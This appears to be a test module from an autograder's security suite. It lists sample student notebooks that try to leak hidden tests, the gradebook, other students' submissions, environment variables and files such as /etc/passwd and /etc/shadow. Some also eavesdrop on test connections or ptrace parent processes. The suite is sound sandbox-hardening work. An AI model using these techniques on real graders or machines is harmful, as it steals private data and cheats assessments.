"""Notebooks that try to bring to light what tests, other students or the machine hold."""

from tests.grading.attacks.attack import ENDED, ENVIRONMENT, PARTLY, Family

LEAKING = Family("leaking tests or data")
add = LEAKING.add
LEAK = "leak"

add(
    "prints the history",
    "prints the text of all cells that ran, in its last cell",
    "def double(x): return x",
    after=("print('\\n'.join(In))", "%history"),
    stock=LEAK,
)
add(
    "listens to IPython",
    "has IPython call it before each cell, and prints the cell",
    """
    get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
    def double(x): return x
    """,
    stock=LEAK,
)
add(
    "searches memory for the tests",
    "prints every text among all objects in which a test might stand, at once and at the end",
    """
    import gc
    def search():
        for held in gc.get_objects():
            for inside in [held, *gc.get_referents(held)]:
                for text in inside if type(inside) is tuple else [inside]:
                    if type(text) is str and "HIDDEN" + " TESTS" in text: print(text)
    search()
    def double(x): return x
    """,
    after=("search()",),
    stock=LEAK,
)
add(
    "walks the frames",
    "prints all local variables of all its callers",
    """
    import sys
    frame = sys._getframe()
    while frame:
        held = dict(frame.f_locals)
        print(frame.f_code.co_name, [str(held[name])[:2000] for name in held if name[0] != "_"])
        frame = frame.f_back
    def double(x):
        frame = sys._getframe()
        while frame:
            print(str(frame.f_locals)[:20_000])
            frame = frame.f_back
    """,
    stock=LEAK,
)
add(
    "prints what it is asked",
    "prints its inputs on every channel there is",
    """
    import logging, os, sys, warnings
    from IPython.display import display
    def double(x):
        print(x); print(x, file=sys.stderr); print(x, file=sys.__stdout__)
        os.write(1, str(x).encode()); os.write(2, str(x).encode())
        display(x); logging.error(x); warnings.warn(str(x))
        get_ipython().run_cell(f"print({x})")
        return 2 * x if x < 9 else x
    """,
    **PARTLY,
    stock=LEAK,
)
add(
    "remembers for a later cell",
    "keeps its inputs in memory and in a file, and prints them in its last cell",
    """
    seen = []
    def double(x):
        seen.append(x)
        with open("seen", "a") as file: print(x, file=file)
        return 2 * x if x < 9 else x
    """,
    after=("print(seen)\nprint(open('seen').read())",),
    **PARTLY,
    stock=LEAK,
)
add(
    "writes it into an error",
    "raises an error of a class that is named after the input",
    """
    def double(x):
        if x < 9: return 2 * x
        error = type(f"Asked{x}", (ValueError,), {"__str__": lambda self: f"asked {x}"})(f"{x}")
        error.diagnosis = error.kind = error.place = f"{x}"
        error.add_note(f"{x}")
        raise error from ValueError(f"{x}")
    """,
    **PARTLY,
    stock=LEAK,
)
add(
    "writes it into a name",
    "raises an error in a function whose name and place are the input",
    """
    def double(x):
        if x < 9: return 2 * x
        held = {}
        exec(compile("\\n" * int(x % 1000) + f"def at_{x}(): raise AssertionError({x})",
                     f"file_{x}", "exec"), globals(), held)
        held[f"at_{x}"]()
    """,
    **PARTLY,
    stock=LEAK,
)
add(
    "returns what cannot be said",
    "returns an object whose class is named after the input",
    """
    def double(x):
        return 2 * x if x < 9 else type(f"Asked{x}", (), {})()
    """,
    **PARTLY,
    stock="(a comparison does not name its classes)",
)
add(
    "a child that stays",
    "leaves a process behind that reads along on the links of all tests and answers for them",
    """
    import gc, os, time
    links = [held for held in gc.get_objects() if type(held).__name__ == "Link"]
    if links and os.fork() == 0:
        end = time.monotonic() + 20
        while time.monotonic() < end:
            for link in links:
                try:
                    link.connection.setblocking(False)
                    heard = link.connection.recv(100_000)
                    if heard: print(heard, flush=True); open("heard", "ab").write(heard)
                except Exception: pass
            time.sleep(0.001)
        os._exit(0)
    def double(x): return x
    """,
    after=("time.sleep(0.3)\nprint(open('heard', 'rb').read())",),
    stock="(there are no links)",
    states=ENDED,
    spares=False,
)
add(
    "reads the course",
    "prints the sources of the assignment, which lie above its folder",
    """
    from pathlib import Path
    for folder in list(Path.cwd().parents)[:4]:
        for place in [*folder.glob("source/*/*.ipynb"), *folder.glob("release/*/*.ipynb")]:
            print(place.read_text())
    def double(x): return x
    """,
    stock=LEAK,
)
add(
    "reads the gradebook",
    "prints the text of all tests from the database above its folder",
    """
    import sqlite3
    from pathlib import Path
    for folder in Path.cwd().parents:
        for place in folder.glob("gradebook.db"):
            print(sqlite3.connect(place).execute("select source from source_cell").fetchall())
    def double(x): return x
    """,
    stock=LEAK,
)
add(
    "reads another student's work",
    "prints the submissions beside its own",
    """
    from pathlib import Path
    for folder in list(Path.cwd().parents)[:4]:
        for place in folder.glob("submitted/*/*/*.ipynb"): print(place.read_text())
    def double(x): return x
    """,
    stock=LEAK,
)
add(
    "leaves a note for the next",
    "writes into the folders that the notebooks of a worker might share",
    """
    import os, tempfile
    note = "what-another-" + "student-wrote"
    for folder in ("/run/cache", "/run/library", "/dev/shm", tempfile.gettempdir(), os.getcwd()):
        if folder.startswith("/run") and not os.path.isdir(folder): continue
        try:
            with open(f"{folder}/attack-note", "w") as file: file.write(note)
        except OSError: pass
    def double(x): return x
    """,
    stock="(the next attack looks for the note)",
)
add(
    "looks for other notebooks",
    "searches memory, caches and temporary folders for what other notebooks left",
    """
    import gc, os, tempfile
    sign = "another-" + "student"
    for held in gc.get_objects():
        for inside in gc.get_referents(held):
            if type(inside) is str and sign in inside: print(inside)
    places = {tempfile.gettempdir(), "/tmp", "/dev/shm", "/run", "/var/tmp", os.getcwd(),
              os.environ.get("MPLCONFIGDIR", "/tmp")}
    for place in places:
        for folder, _, names in os.walk(place):
            for name in names[:100]:
                try: text = open(os.path.join(folder, name), errors="replace").read(10_000)
                except OSError: continue
                if sign in text: print(text)
    def double(x): return x
    """,
    stock="(it starts a kernel for each notebook)",
)
add(
    "prints the environment",
    "prints the variables of its process and of those above it",
    """
    import os
    from pathlib import Path
    print(os.environ)
    for place in Path("/proc").glob("[0-9]*/environ"):
        try: print(place.read_text(errors="replace"))
        except OSError: pass
    !env
    def double(x): return x
    """,
    stock=LEAK,
)
add(
    "looks at other processes",
    "prints the environment of its parents from /proc",
    f"""
    import os
    pid = os.getpid()
    for _ in range(8):
        try:
            text = open(f"/proc/{{pid}}/environ", errors="replace").read()
            print([part for part in text.split("\\0") if "{ENVIRONMENT[:10]}" in part])
            pid = int(open(f"/proc/{{pid}}/stat").read().rpartition(")")[2].split()[1])
        except (OSError, ValueError): break
    def double(x): return x
    """,
    stock=LEAK,
)
add(
    "reads the machine's files",
    "prints /etc/passwd and what else it finds there",
    """
    for name in ("/etc/passwd", "/etc/hostname", "/etc/shadow", "/proc/version", "/proc/mounts"):
        try: print(open(name).read())
        except OSError as error: print(error.strerror)
    !cat /etc/passwd
    def double(x): return x
    """,
    stock=LEAK,
)
add(
    "calls home",
    "connects to a server and asks it what to answer",
    """
    import socket
    def double(x):
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as server:
            server.sendall(str(x).encode())
            return float(server.recv(100))
    try: double(1)
    except OSError: pass
    """,
    stock="escape",
)
add(
    "looks into the warm parent",
    "signals, traces and reads the processes from which it was forked",
    """
    import ctypes, os, signal
    libc = ctypes.CDLL(None)
    for pid in {0, 1, os.getppid()} - {0}:
        libc.ptrace(16, pid, 0, 0)
        libc.syscall(434, pid, 0)
        try: print(open(f"/proc/{pid}/mem", "rb").read(1))
        except OSError: pass
    for flags in (0x10000000, 0x20000, 0x20000000): libc.unshare(flags)
    for pid in range(1, 30):
        try: os.setpriority(os.PRIO_PROCESS, pid, 19)
        except OSError: pass
    def double(x): return x
    """,
    stock="(nothing is forked)",
)
